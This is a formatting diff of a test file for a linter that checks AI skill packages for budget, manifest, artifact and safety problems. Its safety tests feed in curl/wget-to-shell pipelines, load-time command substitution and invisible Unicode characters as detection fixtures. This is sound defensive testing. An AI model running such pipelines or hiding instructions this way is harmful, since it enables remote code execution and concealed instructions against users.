@@ -2,7 +2,19 @@ import { describe, expect, it } from 'vitest';
 import { lintSkill } from '../../shared/lint/checks';
 import { CHECK_IDS, SAFETY_CHECK_IDS } from '../../shared/lint/types';
 import { jsonSchemaIssues } from '../../main/services/schema/manifest-schema';
-import { check, cp, DIR, lintTree, loaded, manifested, manifestToml, mustCheck, SIMPLE_BODY, statuses, tree } from './helpers';
+import {
+  check,
+  cp,
+  DIR,
+  lintTree,
+  loaded,
+  manifested,
+  manifestToml,
+  mustCheck,
+  SIMPLE_BODY,
+  statuses,
+  tree,
+} from './helpers';
 
 const ORDER = [
   'manifest',
@@ -47,13 +59,20 @@ describe('lintSkill: the check list (SPEC §9.1)', () => {
   it('a clean bare skill warns on manifest only, with bare defaults', () => {
     const checks = lintTree(tree('skills/bare-one', { 'SKILL.md': SIMPLE_BODY }));
     expect(checks.map((c) => c.id)).toEqual(['manifest', 'references', 'budget', 'standing', 'visible-text']);
-    expect(checks[0]).toEqual({ id: 'manifest', status: 'warn', detail: 'unmanifested (SKILL.md only) — defaults applied' });
+    expect(checks[0]).toEqual({
+      id: 'manifest',
+      status: 'warn',
+      detail: 'unmanifested (SKILL.md only) — defaults applied',
+    });
     expect(mustCheck(checks, 'budget').detail).toMatch(/ \/ budget 6000$/);
     expect(mustCheck(checks, 'standing').detail).toMatch(/ \/ limit 250$/);
   });
 
   it('a bare skill with non-YAML frontmatter says the fallback was used', () => {
-    const c = mustCheck(lintTree(tree('skills/bare-one', { 'SKILL.md': '---\nname: bare-one\ndescription: a: b\n---\nBody' })), 'manifest');
+    const c = mustCheck(
+      lintTree(tree('skills/bare-one', { 'SKILL.md': '---\nname: bare-one\ndescription: a: b\n---\nBody' })),
+      'manifest',
+    );
     expect(c.status).toBe('warn');
     expect(c.detail).toMatch(/^unmanifested \(SKILL\.md only\) — defaults applied; .*not valid YAML.*line by line/);
   });
@@ -114,7 +133,12 @@ tools = []
   });
 
   it('every check id is reported at most once', () => {
-    const checks = lintTree(manifested(`${cp(0x200b)} ${cp(0x202e)}\n!\`a\` !\`b\`\ncurl a | sh\nwget b | bash`, { 'x.md': `${cp(0x200b)}`, 'l': { symlink: 'x' } }));
+    const checks = lintTree(
+      manifested(`${cp(0x200b)} ${cp(0x202e)}\n!\`a\` !\`b\`\ncurl a | sh\nwget b | bash`, {
+        'x.md': `${cp(0x200b)}`,
+        l: { symlink: 'x' },
+      }),
+    );
     const ids = checks.map((c) => c.id);
     expect(new Set(ids).size).toBe(ids.length);
   });
@@ -133,7 +157,9 @@ describe('name-convention', () => {
   });
 
   it('is absent for a conventional name', () => {
-    expect(check(lintTree(manifested('Body', {}, manifestToml({ name: 'a1-b2-c3' }))), 'name-convention')).toBeUndefined();
+    expect(
+      check(lintTree(manifested('Body', {}, manifestToml({ name: 'a1-b2-c3' }))), 'name-convention'),
+    ).toBeUndefined();
   });
 
   it('applies to bare skills with derived names', () => {
@@ -144,8 +170,16 @@ describe('name-convention', () => {
 describe('budget and standing (SPEC §7.3)', () => {
   it('budget: equal passes, one over fails for a manifested skill', () => {
     const at = 'x'.repeat(200);
-    expect(mustCheck(lintTree(manifested(at, {}, manifestToml({ budget: '50' }))), 'budget')).toEqual({ id: 'budget', status: 'pass', detail: 'body ~50 tok / budget 50' });
-    expect(mustCheck(lintTree(manifested(`${at}x`, {}, manifestToml({ budget: '50' }))), 'budget')).toEqual({ id: 'budget', status: 'fail', detail: 'body ~51 tok / budget 50' });
+    expect(mustCheck(lintTree(manifested(at, {}, manifestToml({ budget: '50' }))), 'budget')).toEqual({
+      id: 'budget',
+      status: 'pass',
+      detail: 'body ~50 tok / budget 50',
+    });
+    expect(mustCheck(lintTree(manifested(`${at}x`, {}, manifestToml({ budget: '50' }))), 'budget')).toEqual({
+      id: 'budget',
+      status: 'fail',
+      detail: 'body ~51 tok / budget 50',
+    });
   });
 
   it('budget over is only a warning for a bare skill', () => {
@@ -155,33 +189,56 @@ describe('budget and standing (SPEC §7.3)', () => {
 
   it('budget counts the resolved body', () => {
     const prompt = 'p'.repeat(400);
-    const c = mustCheck(lintTree(manifested('{{prompt.big}}', { 'prompts/big.md': prompt }, manifestToml({ budget: '50' }))), 'budget');
+    const c = mustCheck(
+      lintTree(manifested('{{prompt.big}}', { 'prompts/big.md': prompt }, manifestToml({ budget: '50' }))),
+      'budget',
+    );
     expect(c).toEqual({ id: 'budget', status: 'fail', detail: 'body ~100 tok / budget 50' });
   });
 
   it('budget excludes a manifested frontmatter (D6)', () => {
     const md = `---\ndescription: ${'f'.repeat(1000)}\n---\n${'b'.repeat(100)}`;
-    expect(mustCheck(lintTree(manifested(md, {}, manifestToml({ budget: '50' }))), 'budget')).toEqual({ id: 'budget', status: 'pass', detail: 'body ~25 tok / budget 50' });
+    expect(mustCheck(lintTree(manifested(md, {}, manifestToml({ budget: '50' }))), 'budget')).toEqual({
+      id: 'budget',
+      status: 'pass',
+      detail: 'body ~25 tok / budget 50',
+    });
   });
 
   it('standing: the stub of the resolved body against context.standing', () => {
-    const c = mustCheck(lintTree(manifested(`# T\n\n${'s'.repeat(41)}\n\nrest`, {}, manifestToml({ standing: '10' }))), 'standing');
+    const c = mustCheck(
+      lintTree(manifested(`# T\n\n${'s'.repeat(41)}\n\nrest`, {}, manifestToml({ standing: '10' }))),
+      'standing',
+    );
     expect(c).toEqual({ id: 'standing', status: 'fail', detail: 'stub ~11 tok / limit 10' });
-    expect(mustCheck(lintTree(manifested(`# T\n\n${'s'.repeat(40)}`, {}, manifestToml({ standing: '10' }))), 'standing').status).toBe('pass');
+    expect(
+      mustCheck(lintTree(manifested(`# T\n\n${'s'.repeat(40)}`, {}, manifestToml({ standing: '10' }))), 'standing')
+        .status,
+    ).toBe('pass');
   });
 
   it('standing 0 passes only an empty stub', () => {
-    expect(mustCheck(lintTree(manifested('# Only a heading\n', {}, manifestToml({ standing: '0' }))), 'standing')).toEqual({ id: 'standing', status: 'pass', detail: 'stub ~0 tok / limit 0' });
+    expect(
+      mustCheck(lintTree(manifested('# Only a heading\n', {}, manifestToml({ standing: '0' }))), 'standing'),
+    ).toEqual({ id: 'standing', status: 'pass', detail: 'stub ~0 tok / limit 0' });
     expect(mustCheck(lintTree(manifested('x', {}, manifestToml({ standing: '0' }))), 'standing').status).toBe('fail');
   });
 
   it('standing over is only a warning for a bare skill', () => {
-    expect(mustCheck(lintTree(tree('skills/bare-s', { 'SKILL.md': 'w'.repeat(1001) })), 'standing')).toEqual({ id: 'standing', status: 'warn', detail: 'stub ~251 tok / limit 250' });
+    expect(mustCheck(lintTree(tree('skills/bare-s', { 'SKILL.md': 'w'.repeat(1001) })), 'standing')).toEqual({
+      id: 'standing',
+      status: 'warn',
+      detail: 'stub ~251 tok / limit 250',
+    });
   });
 
   it('the manifested frontmatter cannot become the stub (D6)', () => {
     const md = `---\ndescription: ${'f'.repeat(1000)}\n---\nShort stub.`;
-    expect(mustCheck(lintTree(manifested(md, {}, manifestToml({ standing: '10' }))), 'standing')).toEqual({ id: 'standing', status: 'pass', detail: 'stub ~3 tok / limit 10' });
+    expect(mustCheck(lintTree(manifested(md, {}, manifestToml({ standing: '10' }))), 'standing')).toEqual({
+      id: 'standing',
+      status: 'pass',
+      detail: 'stub ~3 tok / limit 10',
+    });
   });
 
   it('both are skipped when references fail', () => {
@@ -196,7 +253,9 @@ describe('gate-verdict (SPEC §9.1 #6)', () => {
 
   it('is absent in skill mode', () => {
     expect(check(lintTree(manifested('Body')), 'gate-verdict')).toBeUndefined();
-    expect(check(lintTree(manifested('Body', {}, manifestToml({ extra: '[targets]\nmode = "gait"' }))), 'gate-verdict')).toBeUndefined();
+    expect(
+      check(lintTree(manifested('Body', {}, manifestToml({ extra: '[targets]\nmode = "gait"' }))), 'gate-verdict'),
+    ).toBeUndefined();
   });
 
   it('fails with no scripts entry and no produces', () => {
@@ -216,19 +275,27 @@ describe('gate-verdict (SPEC §9.1 #6)', () => {
   });
 
   it('passes with a scripts entry of any kind (file or symlink)', () => {
-    expect(mustCheck(lintTree(manifested('Body', { scripts: 'not a dir' }, gate())), 'gate-verdict').status).toBe('pass');
-    expect(mustCheck(lintTree(manifested('Body', { scripts: { symlink: 'x' } }, gate())), 'gate-verdict').status).toBe('pass');
+    expect(mustCheck(lintTree(manifested('Body', { scripts: 'not a dir' }, gate())), 'gate-verdict').status).toBe(
+      'pass',
+    );
+    expect(mustCheck(lintTree(manifested('Body', { scripts: { symlink: 'x' } }, gate())), 'gate-verdict').status).toBe(
+      'pass',
+    );
   });
 
   it('passes with a declared artifact, even a malformed one', () => {
-    expect(mustCheck(lintTree(manifested('Body', {}, gate('[artifacts]\nproduces = ["verify@1"]'))), 'gate-verdict').status).toBe('pass');
+    expect(
+      mustCheck(lintTree(manifested('Body', {}, gate('[artifacts]\nproduces = ["verify@1"]'))), 'gate-verdict').status,
+    ).toBe('pass');
     const checks = lintTree(manifested('Body', {}, gate('[artifacts]\nproduces = ["verify@one"]')));
     expect(mustCheck(checks, 'gate-verdict').status).toBe('pass');
     expect(mustCheck(checks, 'artifacts').status).toBe('fail');
   });
 
   it('consumes alone does not ground a verdict', () => {
-    expect(mustCheck(lintTree(manifested('Body', {}, gate('[artifacts]\nconsumes = ["plan@1"]'))), 'gate-verdict').status).toBe('fail');
+    expect(
+      mustCheck(lintTree(manifested('Body', {}, gate('[artifacts]\nconsumes = ["plan@1"]'))), 'gate-verdict').status,
+    ).toBe('fail');
   });
 
   it('a nested scripts/ file without a listed scripts dir still counts', () => {
@@ -244,7 +311,18 @@ describe('artifacts (SPEC §9.1 #8)', () => {
   });
 
   it('passes counting produces and consumes', () => {
-    expect(mustCheck(lintTree(manifested('Body', {}, manifestToml({ extra: '[artifacts]\nproduces = ["plan@1"]\nconsumes = ["findings@1", "my-type2@10"]' }))), 'artifacts')).toEqual({
+    expect(
+      mustCheck(
+        lintTree(
+          manifested(
+            'Body',
+            {},
+            manifestToml({ extra: '[artifacts]\nproduces = ["plan@1"]\nconsumes = ["findings@1", "my-type2@10"]' }),
+          ),
+        ),
+        'artifacts',
+      ),
+    ).toEqual({
       id: 'artifacts',
       status: 'pass',
       detail: 'produces 1, consumes 2',
@@ -253,14 +331,25 @@ describe('artifacts (SPEC §9.1 #8)', () => {
 
   it('fails listing every malformed ref', () => {
     expect(
-      mustCheck(lintTree(manifested('Body', {}, manifestToml({ extra: '[artifacts]\nproduces = ["findings@1.0", "ok@1"]\nconsumes = ["Plan@1", "x"]' }))), 'artifacts'),
+      mustCheck(
+        lintTree(
+          manifested(
+            'Body',
+            {},
+            manifestToml({ extra: '[artifacts]\nproduces = ["findings@1.0", "ok@1"]\nconsumes = ["Plan@1", "x"]' }),
+          ),
+        ),
+        'artifacts',
+      ),
     ).toEqual({ id: 'artifacts', status: 'fail', detail: 'malformed: findings@1.0, Plan@1, x (want name@version)' });
   });
 });
 
 describe('json-schema (opt-in, SPEC §9.3)', () => {
   it('is absent without the option', () => {
-    expect(check(lintTree(manifested('Body', {}, manifestToml({ extra: '[permissions]\nnetwrok = true' }))), 'json-schema')).toBeUndefined();
+    expect(
+      check(lintTree(manifested('Body', {}, manifestToml({ extra: '[permissions]\nnetwrok = true' }))), 'json-schema'),
+    ).toBeUndefined();
   });
 
   it('passes a clean manifest', () => {
@@ -272,7 +361,12 @@ describe('json-schema (opt-in, SPEC §9.3)', () => {
   });
 
   it('fails on an unknown key in [permissions], naming it', () => {
-    const c = mustCheck(lintTree(manifested('Body', {}, manifestToml({ extra: '[permissions]\nnetwrok = true' })), { jsonSchema: jsonSchemaIssues }), 'json-schema');
+    const c = mustCheck(
+      lintTree(manifested('Body', {}, manifestToml({ extra: '[permissions]\nnetwrok = true' })), {
+        jsonSchema: jsonSchemaIssues,
+      }),
+      'json-schema',
+    );
     expect(c.status).toBe('fail');
     expect(c.detail).toContain('permissions');
     expect(c.detail).toContain('netwrok');
@@ -280,7 +374,10 @@ describe('json-schema (opt-in, SPEC §9.3)', () => {
 
   it('fails on what the loader only warns about (enum values, artifact refs)', () => {
     const c = mustCheck(
-      lintTree(manifested('Body', {}, manifestToml({ extra: '[targets]\nmode = "gait"\n[artifacts]\nproduces = ["x@1.0"]' })), { jsonSchema: jsonSchemaIssues }),
+      lintTree(
+        manifested('Body', {}, manifestToml({ extra: '[targets]\nmode = "gait"\n[artifacts]\nproduces = ["x@1.0"]' })),
+        { jsonSchema: jsonSchemaIssues },
+      ),
       'json-schema',
     );
     expect(c.status).toBe('fail');
@@ -290,13 +387,20 @@ describe('json-schema (opt-in, SPEC §9.3)', () => {
   });
 
   it('is not run for bare skills', () => {
-    expect(check(lintTree(tree('skills/bare-x', { 'SKILL.md': 'Body' }), { jsonSchema: jsonSchemaIssues }), 'json-schema')).toBeUndefined();
+    expect(
+      check(lintTree(tree('skills/bare-x', { 'SKILL.md': 'Body' }), { jsonSchema: jsonSchemaIssues }), 'json-schema'),
+    ).toBeUndefined();
   });
 
   it('receives the raw parsed manifest, before defaults', () => {
     const seen: unknown[] = [];
     lintTree(manifested('Body'), { jsonSchema: (m) => (seen.push(m), []) });
-    expect(seen).toEqual([{ skill: { name: 'demo', version: '1.0.0', description: 'A demo skill used by the unit tests.' }, context: { budget: 1500 } }]);
+    expect(seen).toEqual([
+      {
+        skill: { name: 'demo', version: '1.0.0', description: 'A demo skill used by the unit tests.' },
+        context: { budget: 1500 },
+      },
+    ]);
   });
 });
 
@@ -320,7 +424,9 @@ describe('safety scope (SPEC §9.5, D1)', () => {
   });
 
   it('a symlink anywhere fails visible-text, whatever else is clean', () => {
-    const checks = lintTree(manifested(SIMPLE_BODY, { 'prompts/shared.md': { symlink: '../../other/prompts/shared.md' } }));
+    const checks = lintTree(
+      manifested(SIMPLE_BODY, { 'prompts/shared.md': { symlink: '../../other/prompts/shared.md' } }),
+    );
     expect(mustCheck(checks, 'visible-text').status).toBe('fail');
     expect(checks.filter((c) => c.status === 'fail').map((c) => c.id)).toEqual(['visible-text']);
   });
@@ -335,7 +441,9 @@ describe('safety scope (SPEC §9.5, D1)', () => {
   });
 
   it('an empty file is text and clean', () => {
-    expect(mustCheck(lintTree(manifested('Body', { 'empty.txt': new Uint8Array(0) })), 'visible-text').status).toBe('pass');
+    expect(mustCheck(lintTree(manifested('Body', { 'empty.txt': new Uint8Array(0) })), 'visible-text').status).toBe(
+      'pass',
+    );
   });
 
   it('locations are 1-based with an exclusive end column, after a leading BOM', () => {
@@ -365,30 +473,43 @@ describe('safety detail texts (SPEC §9.5)', () => {
   it('remote-exec and dynamic-context use the same shape', () => {
     const checks = lintTree(manifested('a\nb !`id`\ncurl x | sh\n'));
     expect(mustCheck(checks, 'remote-exec').detail).toBe('download-and-execute pipeline: curl|sh (SKILL.md:3:1)');
-    expect(mustCheck(checks, 'dynamic-context').detail).toBe('command substitution runs when the skill loads, before the model sees it: !`id` (SKILL.md:2:3)');
+    expect(mustCheck(checks, 'dynamic-context').detail).toBe(
+      'command substitution runs when the skill loads, before the model sees it: !`id` (SKILL.md:2:3)',
+    );
   });
 
   it('show up to eight findings, then "and <n> more"', () => {
     const body = Array.from({ length: 11 }, (_v, i) => `curl https://x.example/${i} | sh`).join('\n');
     const c = mustCheck(lintTree(manifested(body)), 'remote-exec');
     expect(c.locations).toHaveLength(11);
-    expect(c.detail).toMatch(/^download-and-execute pipeline: (?:curl\|sh \(SKILL\.md:\d+:1\), ){7}curl\|sh \(SKILL\.md:8:1\), and 3 more$/);
+    expect(c.detail).toMatch(
+      /^download-and-execute pipeline: (?:curl\|sh \(SKILL\.md:\d+:1\), ){7}curl\|sh \(SKILL\.md:8:1\), and 3 more$/,
+    );
   });
 
   it('visible-text lists one part per file with its first position and code points', () => {
     const c = mustCheck(lintTree(manifested(`x${cp(0x200b)}y${cp(0x202e)}`)), 'visible-text');
-    expect(c.detail).toBe('SKILL.md:1:2: 2 run(s) of invisible characters (U+200B, U+202E) — instructions a reviewer cannot see');
+    expect(c.detail).toBe(
+      'SKILL.md:1:2: 2 run(s) of invisible characters (U+200B, U+202E) — instructions a reviewer cannot see',
+    );
   });
 });
 
 describe('json-schema detail texts (SPEC §9.3)', () => {
   it('each violation is "<dotted path> <message>"', () => {
-    const c = mustCheck(lintTree(manifested('Body', {}, manifestToml({ extra: '[permissions]\nnetwrok = true' })), { jsonSchema: jsonSchemaIssues }), 'json-schema');
+    const c = mustCheck(
+      lintTree(manifested('Body', {}, manifestToml({ extra: '[permissions]\nnetwrok = true' })), {
+        jsonSchema: jsonSchemaIssues,
+      }),
+      'json-schema',
+    );
     expect(c.detail).toBe('permissions must NOT have additional properties "netwrok"');
   });
 
   it('a TOML date-time is read as an ISO 8601 string', () => {
     const toml = manifestToml().replace('[context]', 'license = 1979-05-27T07:32:00Z\n\n[context]');
-    expect(mustCheck(lintTree(manifested('Body', {}, toml), { jsonSchema: jsonSchemaIssues }), 'json-schema').status).toBe('pass');
+    expect(
+      mustCheck(lintTree(manifested('Body', {}, toml), { jsonSchema: jsonSchemaIssues }), 'json-schema').status,
+    ).toBe('pass');
   });
 });
